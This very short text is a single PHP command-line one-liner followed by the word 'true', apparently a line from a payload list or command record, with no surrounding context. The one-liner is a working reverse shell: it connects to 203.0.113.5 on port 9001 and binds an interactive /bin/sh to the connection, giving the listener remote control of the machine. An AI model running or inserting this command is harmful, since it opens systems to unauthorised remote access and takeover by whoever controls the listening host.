php -r '$s=fsockopen("203.0.113.5",9001);proc_open("/bin/sh -i",[$s,$s,$s],$pipes);sleep(1);'
true
